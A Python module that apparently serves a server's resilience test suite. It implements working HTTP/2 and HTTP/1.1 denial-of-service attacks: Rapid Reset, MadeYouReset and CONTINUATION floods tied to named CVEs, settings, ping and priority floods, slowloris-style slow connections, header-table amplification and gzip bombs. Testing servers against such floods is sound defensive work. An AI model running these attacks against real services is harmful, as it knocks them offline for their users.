"""The attacks of attack_test.py. Each runs against an address until its time is over, in a process of its
own, and returns how its connections ended: a Counter of error codes and HTTP statuses."""
import collections
import gzip
import struct
import time

from attack_wire import (CONTINUATION, DATA, ECHO_HEAD, END_STREAM, GZIP_HEAD, HEADERS, INITIAL_WINDOW_SIZE, PING,
                         PREFACE, PRIORITY, WAIT_S, WINDOW_MAX, Connection, ask, frame, get, head, literal,
                         message, request, reset, settings, window_update)

BURST = 500  # frames said at once
STREAMS = 100  # of those bursts that open streams
SLOW_CONNECTIONS = 200
HONEST_MAX = 3  # connections of the honest client at once
DRIP_S = 0.02  # between two bytes of who is slow
JSON_POST = (b"POST /marquee.test.EchoService/Echo HTTP/1.1\r\nhost: a\r\n"
             b"content-type: application/json\r\ncontent-length: 100000\r\n\r\n")
SLEEP = message(b"\x22\x03\x08\xd0\x0f")  # plan{delay_ms: 2000}


def ending(peer):
    if peer.heard.startswith(b"HTTP/1.1"):
        return peer.heard[9:12].decode()
    if any(kind in (HEADERS, DATA) and flags & END_STREAM for kind, flags, _, _ in peer.frames):
        return "answered"
    if peer.goaway:
        return peer.goaway
    return "closed" if peer.ended else "open"


def flood(address, until, opening, burst, answers=0):
    """One connection after the other, each as fast as the server takes it, and answers so many frames for
    each burst. burst(n): the n-th bytes."""
    ends = collections.Counter()
    while time.monotonic() < until:
        peer = Connection(address)
        peer.say(opening)
        count = 0
        while not peer.ended and time.monotonic() < until:
            if not peer.unsaid and len(peer.frames) >= answers * count:
                peer.say(burst(count))
                count += 1
            peer.turn(0.01)
        if peer.ended or peer.goaway:
            ends[peer.goaway or ending(peer)] += 1
        peer.close()
    return ends


def same(frames):
    data = frames * BURST
    return lambda count: data


def of_streams(make):
    """A burst of what make(stream) returns, for new streams."""
    def burst(count):
        first = 2 * count * STREAMS + 101
        return b"".join(make(stream) for stream in range(first, first + 2 * STREAMS, 2))
    return burst


def rapid_reset(address, until):
    """CVE-2023-44487: each request is cancelled at once."""
    return flood(address, until, b"", of_streams(lambda stream: request(stream, ECHO_HEAD, SLEEP) + reset(stream)))


def made_you_reset(address, until):
    """CVE-2025-8671: each request is followed by a frame that makes the server reset it."""
    return flood(address, until, b"", of_streams(
        lambda stream: request(stream, ECHO_HEAD, SLEEP) + window_update(stream, WINDOW_MAX)))


def continuation(address, until):
    """CVE-2024-28182: a header block without end, in parts with nothing in them."""
    opening = frame(HEADERS, END_STREAM, 1, head(b"GET", b"/state"))
    return flood(address, until, opening, same(frame(CONTINUATION, 0, 1)))


def settings_flood(address, until):
    pair = settings((INITIAL_WINDOW_SIZE, 1)) + settings((INITIAL_WINDOW_SIZE, 65535))
    burst = pair * (BURST // 2)  # nghttp2 has a limit for those whose ACK waits: here, none does for long
    return flood(address, until, b"", lambda count: burst, answers=BURST)


def ping_flood(address, until):
    return flood(address, until, b"", same(frame(PING, 0, 0, b"12345678")))


def empty_data(address, until):
    return flood(address, until, request(1, ECHO_HEAD, end=False), same(frame(DATA, 0, 1)))


def priority_flood(address, until):
    return flood(address, until, b"", same(frame(PRIORITY, 0, 7, struct.pack(">IB", 5, 1))))


def window_by_bytes(address, until):
    """Each byte of window lets one DATA frame of a byte go."""
    opening = settings((INITIAL_WINDOW_SIZE, 0)) + get(1, b"/large?bytes=1000000")
    return flood(address, until, opening, same(window_update(1, 1)))


def header_list(address, until):
    """A long header of the table, again and again: a byte each, and three megabytes for the server."""
    opening = request(1, head(b"GET", b"/state") + literal(b"x", b"y" * 3500, indexed=True))
    bomb = head(b"GET", b"/state") + b"\xbe" * 900
    return flood(address, until, opening, lambda count: request(2 * count + 3, bomb))


def await_ends(peers, is_over, drip=None):
    """Until each is over; who is not is given drip[peer] to say, a piece at a time."""
    ends = collections.Counter()
    deadline = time.monotonic() + WAIT_S
    left = list(peers)
    while left and time.monotonic() < deadline:
        for peer in left:
            peer.turn()
            if drip and not peer.ended and not is_over(peer):
                peer.say(drip[peer])
        left = [peer for peer in left if not is_over(peer)]
        time.sleep(DRIP_S)
    for peer in peers:
        ends[ending(peer)] += 1
        peer.close()
    return ends


def has_ended(peer):
    return peer.ended is not None


def has_answer(peer):
    return peer.ended is not None or ending(peer) != "open"


def open_each(address, openings, count):
    """So many connections, and what each is to say later."""
    drip = {}
    for i in range(count):
        opening, more = openings[i % len(openings)]
        drip[Connection(address, opening)] = more
    return drip


def slow_headers(address, until):
    """Half a head over HTTP/1.1 and over HTTP/2, then a byte now and then; half a preface, then nothing."""
    drip = open_each(address, (
        (b"GET /state HTTP/1.1\r\nhost: a\r\nx: ", b"y"),
        (PREFACE + settings() + frame(HEADERS, END_STREAM, 1, head(b"GET", b"/state")), b""),
        (PREFACE[:10], b"")), SLOW_CONNECTIONS)
    return await_ends(drip, has_ended, drip)


def slow_bodies(address, until):
    """A body that comes a byte at a time, over HTTP/1.1 and over HTTP/2."""
    block = head(b"POST", b"/marquee.test.EchoService/Echo", (b"content-type", b"application/json"))
    drip = open_each(address, (
        (JSON_POST, b" "),
        (PREFACE + settings() + request(1, block, end=False), frame(DATA, 0, 1, b" "))), SLOW_CONNECTIONS)
    return await_ends(drip, has_answer, drip)


def closed_windows(address, until):
    """A hundred replies each, and no window for any."""
    requests = b"".join(get(2 * i + 1, b"/large?bytes=50000") for i in range(100))
    opening = PREFACE + settings((INITIAL_WINDOW_SIZE, 0)) + requests
    return await_ends([Connection(address, opening) for _ in range(20)], has_ended)


def slow_readers(address, until):
    """Large replies that nobody reads."""
    drip = open_each(address, (
        (b"GET /large?bytes=8000000 HTTP/1.1\r\nhost: a\r\n\r\n", b""),
        (PREFACE + settings((INITIAL_WINDOW_SIZE, WINDOW_MAX)) + window_update(0, WINDOW_MAX - 65535) +
         get(1, b"/large?bytes=8000000"), b"")), 40)
    # What was on its way can be read long after the server has given up: it says when it holds none of them.
    deadline = time.monotonic() + WAIT_S
    while int(ask(address, b"/state")[1].split()[0]) > HONEST_MAX and time.monotonic() < deadline:
        time.sleep(DRIP_S)
    return await_ends(drip, has_ended)


def vanishing(address, until):
    """Clients that are gone while calls of every kind are under way."""
    calls = b"".join(request(2 * i + 1, ECHO_HEAD, SLEEP) for i in range(20))
    chat = head(b"POST", b"/marquee.test.EchoService/Chat", (b"content-type", b"application/grpc"))
    calls += b"".join(request(2 * i + 41, chat, message(b"\x0a\1a"), end=False) for i in range(20))
    calls += get(101, b"/large?bytes=8000000")
    openings = (PREFACE + settings() + calls, JSON_POST + b"{", b"GET /large?bytes=8000000 HTTP/1.1\r\nhost: a\r\n\r\n")
    ends = collections.Counter()
    while time.monotonic() < until:
        peers = [Connection(address, openings[i % len(openings)]) for i in range(12)]
        for peer in peers[::3]:  # those that hear something have been taken in
            while not peer.frames and not peer.ended and time.monotonic() < until:
                peer.turn(0.05)
        for peer in peers:
            ends["ended" if peer.ended else "vanished"] += 1
            peer.vanish()
    return ends


def gzip_bombs(address, until):
    """Five kilobytes that become five megabytes, past the limit of a message, on fifty streams."""
    bomb = message(gzip.compress(bytes(5 << 20), 9), compressed=True)
    ends = collections.Counter()
    peer = Connection(address)
    stream, open_streams = 1, 0
    while not peer.ended and (time.monotonic() < until or open_streams):
        while open_streams < 50 and time.monotonic() < until:
            peer.say(request(stream, GZIP_HEAD, bomb))
            stream += 2
            open_streams += 1
        peer.turn(0.01)
        for kind, flags, _, _ in peer.frames:
            if kind == HEADERS and flags & END_STREAM:
                ends["answered"] += 1
                open_streams -= 1
            elif kind == DATA:
                ends["echoed"] += 1
        peer.frames.clear()
    peer.close()
    return ends
